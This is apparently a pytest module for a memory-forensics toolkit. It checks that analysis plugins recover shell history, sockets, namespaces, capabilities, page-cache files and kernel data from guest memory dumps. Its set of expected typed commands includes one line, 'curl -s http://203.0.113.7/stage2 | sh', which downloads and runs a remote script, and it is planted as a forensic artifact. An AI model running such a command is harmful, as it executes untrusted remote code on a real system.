# SPDX-License-Identifier: LicenseRef-VSL-1.0
"""What an analyst looks for, on guests that have it (tools/dumpmaker/guest-rich)."""

from __future__ import annotations

import hashlib
import os
import re
import socket
import tarfile
from collections.abc import Callable, Iterator
from typing import Any, Final

import pytest

from dumpmaker import initramfs
from dumpmaker.cache import FURTHER, RECIPES, Dump
from support.pluginruns import guest_processes, processes, stable
from support.volrunner import Vol

pytestmark = pytest.mark.slow
Dumps = Callable[[str], Dump]

ALL: Final = bool(os.environ.get("BTF_ALL_GUESTS"))
GUESTS: Final = RECIPES | (FURTHER if ALL else {})
RICH: Final = [name for name, recipe in GUESTS.items() if recipe.rich]
AMD64: Final = [name for name in RICH if name.startswith("amd64")]
TYPED: Final = {
    "cd /tmp",
    "curl -s http://203.0.113.7/stage2 | sh",
    "was-typed-elsewhere",
    "export SECRET=hunter2",
}


def told(guest: Dump, name: str) -> str:
    """A file that the guest has written before the dump."""
    return (guest.folder / "proc" / name).read_text()


def pid_of(guest: Dump, args: str) -> int:
    """The process that was started with these arguments."""
    (found,) = (int(row["pid"]) for row in guest.truth["processes"] if row["args"] == args)
    return found


def status(guest: Dump, pid: int) -> dict[str, str]:
    """/proc/PID/status."""
    return dict(re.findall(r"^(\w+):\t(.*)$", told(guest, f"{pid}/status"), re.MULTILINE))


def side(text: str, order: Any) -> tuple[str, int]:
    """Address and port, as /proc/net has them: words of the machine's byte order in hexadecimal."""
    address, port = text.split(":")
    raw = b"".join(int(address[at : at + 8], 16).to_bytes(4, order) for at in range(0, len(address), 8))
    return socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw), int(port, 16)


def sockets(guest: Dump, name: str) -> set[tuple[tuple[str, int], tuple[str, int]]]:
    """Both sides of every socket in a file of /proc/net that a process still holds."""
    order = "big" if guest.truth["arch"] == "s390x" else "little"
    lines = (line.split() for line in told(guest, f"rich-{name}").splitlines()[1:])
    return {(side(words[1], order), side(words[2], order)) for words in lines if words[9] != "0"}


@pytest.mark.parametrize("name", [name for name in RICH if not name.startswith("s390x")])
def test_what_was_typed_into_a_shell(dump: Dumps, session_vol: Vol, name: str) -> None:
    """On s390x the plugin finds nothing: it looks for addresses in little-endian order."""
    guest = dump(name)
    rows = session_vol("linux.bash", image=guest.raw).rows
    pid = pid_of(guest, "bash --norc -i")
    assert {(row["PID"], row["Command"]) for row in rows} == {(pid, line) for line in TYPED}


@pytest.mark.parametrize("name", RICH)
def test_connections_have_both_their_sides(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    rows = session_vol("linux.sockstat", image=guest.raw).rows
    for family, proto, file in (
        ("AF_INET", "TCP", "tcp"),
        ("AF_INET6", "TCP", "tcp6"),
        ("AF_INET", "UDP", "udp"),
    ):
        shown = {
            tuple((row[f"{side} Addr"], int(row[f"{side} Port"])) for side in ("Source", "Destination"))
            for row in rows
            if (row["Family"], row["Proto"]) == (family, proto)
        }
        assert shown == sockets(guest, file) != set()
    assert "/dev/log" in {row["Source Addr"] for row in rows if row["Family"] == "AF_UNIX"}
    packets = [row for row in rows if row["Family"] == "AF_PACKET"]
    assert len(packets) == len(told(guest, "rich-packet").splitlines()) - 1 == 1


@pytest.mark.parametrize("name", RICH)
def test_a_container_has_its_own_mounts_and_names(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    pid = pid_of(guest, "sleep 33333")
    names = dict(re.findall(r"^(\w+):\[(\d+)\]$", told(guest, f"{pid}/ns"), re.MULTILINE))
    rows = session_vol("linux.mountinfo", image=guest.raw).rows
    inside = {row["MOUNT_POINT"] for row in rows if row["MNT_NS_ID"] == int(names["mnt"])}
    lines = told(guest, f"{pid}/mountinfo").splitlines()
    assert {line.split()[4] for line in lines} <= inside and "/tmp/inside" in inside
    others = {row["MOUNT_POINT"] for row in rows if row["MNT_NS_ID"] != int(names["mnt"])}
    assert "/tmp/inside" not in others and "/disk" in others


@pytest.mark.parametrize("name", RICH)
def test_processes_have_their_users_and_rights(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    user, limited = pid_of(guest, "sleep 22222"), pid_of(guest, "sleep 22223")
    rows = {row["PID"]: row for row in session_vol("linux.pslist", image=guest.raw).rows}
    assert [rows[user][key] for key in ("UID", "GID", "EUID", "EGID")] == [1001, 1002, 1001, 1002]
    rights = {row["Pid"]: row for row in session_vol("linux.capabilities", image=guest.raw).rows}
    assert status(guest, user)["CapEff"].strip("0") == ""
    assert not rights[user]["cap_effective"] and rights[user]["EUID"] == 1001
    assert status(guest, limited)["CapInh"] == f"{1 << 13 | 1 << 5:016x}"
    assert rights[limited]["cap_inheritable"] == "kill, net_raw"
    assert rights[limited]["cap_ambient"] == "net_raw"


@pytest.mark.parametrize("name", RICH)
def test_open_files_are_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    rows = session_vol("linux.lsof", image=guest.raw).rows
    compared = 0
    for path in sorted(guest.folder.glob("proc/*/fd")):
        opened = dict(re.findall(r" (\d+) -> (/.*)$", path.read_text(), re.MULTILINE))
        shown = {
            str(row["FD"]): row["Path"]
            for row in rows
            if row["PID"] == int(path.parent.name) and str(row["Path"]).startswith("/")
        }
        if path.parent.name != "1" and opened:
            assert {key: shown.get(key) for key in opened} == opened
            compared += 1
    assert compared >= 10


@pytest.mark.parametrize("name", RICH)
def test_files_on_a_disk_are_as_they_were_written(dump: Dumps, vol: Vol, name: str) -> None:
    guest = dump(name)
    sums = {path: sum_ for sum_, path in map(str.split, told(guest, "rich-md5").splitlines())}
    assert set(sums) == {"/disk/numbers", "/disk/folder/note"}
    for path, expected in sums.items():
        vol("linux.pagecache.InodePages", "--find", path, "--dump", image=guest.raw)
        (file,) = vol.output.iterdir()
        assert hashlib.md5(file.read_bytes()).hexdigest() == expected
        file.unlink()


@pytest.mark.parametrize("name", RICH)
def test_traced_functions_have_their_names(dump: Dumps, session_vol: Vol, name: str) -> None:
    """A probe is at work through the tracer where the architecture has that (CONFIG_KPROBES_ON_FTRACE)."""
    rows = session_vol("linux.tracing.ftrace.CheckFtrace", image=dump(name).raw).rows
    functions = {"vfs_rmdir"} if name.startswith(("arm64", "riscv64")) else {"vfs_rmdir", "vfs_rename"}
    assert {row["Hooked symbols"] for row in rows} == functions


@pytest.mark.parametrize("name", RICH)
def test_the_kernels_log_is_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
    """All of it up to the dump, in order; the plugin adds lines that name the device of the one before."""
    guest = dump(name)
    rows = session_vol("linux.kmsg", image=guest.raw).rows
    lines = re.findall(r"^\[ *(\d+\.\d+)\] (.*)$", told(guest, "dmesg"), re.MULTILINE)
    shown = [
        (row["timestamp"], row["line"].rstrip())
        for row in rows
        if not row["line"].startswith((" SUBSYSTEM=", " DEVICE="))
    ]
    assert len(shown) >= 100
    assert shown == [(time, text.rstrip()) for time, text in lines[: len(shown)]]


@pytest.mark.parametrize("name", RICH)
def test_every_process_has_its_programs_file(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    rows = session_vol("linux.elfs", image=guest.raw).rows
    files = {path.parent.name: path.read_text().strip() for path in guest.folder.glob("proc/*/exe")}
    shown = {str(row["PID"]): row["File Path"] for row in rows if str(row["File Path"]).startswith("/")}
    assert len(files) >= 10
    assert {pid: shown.get(pid) for pid in files} == files


@pytest.mark.parametrize("name", RICH)
def test_system_calls_lead_where_the_guest_has_them(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    rows = session_vol("linux.malware.check_syscall", image=guest.raw).rows
    symbols = re.findall(r"^(\w+) \S (\S+)$", guest.kallsyms.read_text(), re.MULTILINE)
    addresses = {symbol: int(address, 16) for address, symbol in symbols}
    handlers = {row["Handler Symbol"] for row in rows}
    assert len(rows) > 300 and len(handlers) > 250
    low = (1 << 40) - 1
    assert all(addresses[row["Handler Symbol"]] & low == row["Handler Address"] & low for row in rows)


@pytest.mark.parametrize("name", RICH)
def test_kernel_threads_are_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    rows = session_vol("linux.kthreads", image=guest.raw).rows
    names = set(re.findall(r"^\w+ \S (\S+)", guest.kallsyms.read_text(), re.MULTILINE))
    lasting = {
        int(row["pid"])
        for row in guest.truth["processes"]
        if row["ppid"] == "2" and not row["comm"].startswith("kworker")
    }
    assert lasting <= {row["TID"] for row in rows}
    assert {row["Symbol"] for row in rows} <= names


@pytest.mark.parametrize("name", RICH if ALL else ["amd64-7", "arm64-6.12", "s390x-6.12"])
def test_the_whole_page_cache_is_recovered(dump: Dumps, vol: Vol, name: str) -> None:
    """Every file that is whole in memory, with its path, in an archive."""
    guest = dump(name)
    vol("linux.pagecache.RecoverFs", image=guest.raw)
    (path,) = vol.output.glob("*.tar.gz")
    sums = {path: sum_ for sum_, path in map(str.split, told(guest, "rich-md5").splitlines())}
    with tarfile.open(path) as archive:
        found = {
            f"/{member.name.strip('/').partition('/')[2]}": hashlib.md5(content.read()).hexdigest()
            for member in archive
            if (content := archive.extractfile(member)) is not None
        }
    assert {path: found.get(path) for path in sums} == sums
    assert found["/init"] == hashlib.md5(initramfs.INIT.read_bytes()).hexdigest()


@pytest.mark.parametrize("name", RICH)
def test_files_in_the_page_cache_have_their_paths_and_sizes(dump: Dumps, session_vol: Vol, name: str) -> None:
    rows = session_vol("linux.pagecache.Files", image=dump(name).raw).rows
    sizes = {row["FilePath"]: row["InodeSize"] for row in rows}
    numbers = sum(len(f"{number}\n") for number in range(1, 20001))
    assert sizes["/disk/numbers"] == numbers
    assert sizes["/disk/folder/note"] == len("found-on-a-disk\n")
    assert sizes["/init"] == len(initramfs.INIT.read_bytes())


@pytest.mark.parametrize("name", AMD64)
def test_processes_are_found_in_every_way(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    told = stable(guest_processes(guest.truth))
    hashed = processes(session_vol("linux.pidhashtable", image=guest.raw))
    assert stable(hashed).items() >= told.items()
    scanned = processes(session_vol("linux.psscan", image=guest.raw))
    assert stable(scanned).items() >= told.items()


@pytest.mark.parametrize("name", AMD64)
def test_command_lines_are_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    shown = {row["PID"]: row["ARGS"] for row in session_vol("linux.psaux", image=guest.raw).rows}
    lines = {int(path.parent.name): path.read_text() for path in guest.folder.glob("proc/*/cmdline")}
    assert len(lines) >= 10
    assert {pid: shown.get(pid) for pid in lines} == {
        pid: " ".join(text.splitlines()) for pid, text in lines.items()
    }


SCANNED: Final = [name for name in AMD64 if name != "amd64-6.1-rich"]
"""On 6.1 `linux.sockscan` ends with an error of its own (docs/newer-kernels.md)."""

TCP_ENDS: Final = "tcp4_destruct_sock"
"""What ends a TCP socket on kernels of which the plugin does not know it."""

OTHER_ENDS: Final = ("inet6_sock_destruct", "tcp6_destruct_sock", "udp_destruct_sock", "udpv6_destruct_sock")


@pytest.mark.parametrize("name", SCANNED)
def test_sockets_are_found_by_scanning_or_a_line_tells_why_not(
    dump: Dumps, session_vol: Vol, name: str
) -> None:
    guest = dump(name)
    result = session_vol("linux.sockscan", image=guest.raw)
    shown = {
        tuple((row[f"{side} Addr"], int(row[f"{side} Port"])) for side in ("Source", "Destination"))
        for row in result.rows
        if (row["Family"], row["Proto"]) == ("AF_INET", "TCP")
    }
    there = {pair for pair in sockets(guest, "tcp") if pair[0][0] != "0.0.0.0"}
    symbols = (guest.folder / "kallsyms.txt").read_text()
    ends = set(re.findall(r"\w+_destruct(?:_sock)?$", symbols, re.MULTILINE))
    unknown = ends & {TCP_ENDS, *OTHER_ENDS}
    lines = [line for line in result.stderr.splitlines() if "linux.sockscan looks for" in line]
    assert {word for line in lines for word in re.findall(r"\w+_destruct(?:_sock)?", line)} == unknown
    assert there and (shown >= there or TCP_ENDS in unknown)


@pytest.mark.parametrize("name", AMD64)
def test_the_map_of_addresses_is_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
    guest = dump(name)
    lines = re.findall(r"^ *(\w+)-(\w+) : (.*)$", told(guest, "iomem"), re.MULTILINE)
    rows = session_vol("linux.iomem", image=guest.raw).rows
    shown = {(row["Name"], row["Start"], row["End"]) for row in flattened(rows)}
    assert {(text, int(start, 16), int(end, 16)) for start, end, text in lines} <= shown


def flattened(rows: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
    """The rows of a tree, those below others too."""
    for row in rows:
        yield row
        yield from flattened(row["__children"])
